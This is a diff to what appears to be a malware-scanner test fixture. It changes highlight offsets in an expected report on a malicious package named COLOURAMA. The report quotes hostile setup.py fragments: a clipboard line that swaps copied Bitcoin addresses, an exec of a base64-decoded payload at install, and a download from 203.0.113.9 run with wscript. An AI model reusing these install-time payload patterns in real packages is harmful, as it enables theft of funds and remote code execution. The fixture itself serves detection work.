@@ -12,7 +12,7 @@ export const COLOURAMA: Report = {
   score: 97,
   findings: [
     finding('clipboard-address-swap', 'swap', 'critical', 'install', 'Replaces a copied Bitcoin address with another one', ['T1115', 'T1565.002'], [
-      { path: 'setup.py', line: 4, column: 1, snippet: 'clip = GetClip() : if Left(clip, 1) = "1" then SetClip "1ExampleExampleExample"', mark: [49, 80], role: 'primary', label: 'written back', layers: ['base64', 'base64'] },
+      { path: 'setup.py', line: 4, column: 1, snippet: 'clip = GetClip() : if Left(clip, 1) = "1" then SetClip "1ExampleExampleExample"', mark: [47, 79], role: 'primary', label: 'written back', layers: ['base64', 'base64'] },
       { path: 'setup.py', line: 4, column: 1, snippet: 'clip = GetClip() : if Left(clip, 1) = "1" then SetClip "1ExampleExampleExample"', mark: [0, 16], role: 'related', label: 'read here', layers: ['base64', 'base64'] },
     ]),
     finding('install-command-override', 'entry', 'medium', 'install', 'The install command is replaced by `PostInstall`', ['T1195.002'], [
@@ -20,7 +20,7 @@ export const COLOURAMA: Report = {
       { path: 'setup.py', line: 9, column: 9, snippet: '        exec(base64.b64decode(PAYLOAD))', mark: [8, 39], role: 'related', label: 'decoded and run here', layers: [] },
     ]),
     finding('download-and-run', 'reach', 'high', 'install', `Downloads http://203.0.113.9/stage/${HOLE} and runs it with wscript`, ['T1105', 'T1059.005'], [
-      { path: 'setup.py', line: 1, column: 30, snippet: DROPPED, mark: [29, 114], role: 'primary', label: 'downloaded and written', layers: ['base64'] },
+      { path: 'setup.py', line: 1, column: 30, snippet: DROPPED, mark: [28, 115], role: 'primary', label: 'downloaded and written', layers: ['base64'] },
     ]),
     finding('host-identity-read', 'look', 'note', 'unreachable', 'Reads the name of the operating system', ['T1082'], [
       { path: 'tests/test_all.py', line: 3, column: 7, snippet: 'print(platform.system())', mark: [6, 23], role: 'primary', layers: [] },
